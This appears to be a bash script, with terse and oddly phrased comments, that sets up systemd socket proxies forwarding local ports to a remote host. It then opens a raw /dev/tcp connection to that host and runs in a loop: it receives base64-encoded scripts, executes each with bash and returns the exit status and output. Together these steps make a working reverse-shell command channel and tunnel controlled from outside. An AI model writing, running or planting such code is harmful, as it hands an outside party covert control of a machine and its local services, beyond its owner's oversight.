# An office's machine at which the host types: each line that comes is a script in base64, each answer its status and what it said.
# Given: HOST, LINE, the port of the host's end, and PORTS: what is behind them here is behind them there, since edges speak in the clear
# to this machine only.
for port in $PORTS; do
  printf '[Socket]\nListenStream=127.0.0.1:%s\n' "$port" > "/run/systemd/system/cloud-$port.socket"
  printf '[Service]\nExecStart=/lib/systemd/systemd-socket-proxyd %s:%s\n' "$HOST" "$port" > "/run/systemd/system/cloud-$port.service"
done
systemctl daemon-reload
systemctl start $(for port in $PORTS; do echo "cloud-$port.socket"; done) || exit 1
exec bash -c '
  exec 3<> "/dev/tcp/$HOST/$LINE"
  while read -r encoded <&3; do
    echo "$encoded" | base64 -d > /tmp/typed
    bash /tmp/typed > /tmp/said 2>&1 < /dev/null 3>&-
    status=$?
    echo "$status $(tail -c 60000 /tmp/said | base64 -w 0)" >&3
  done'
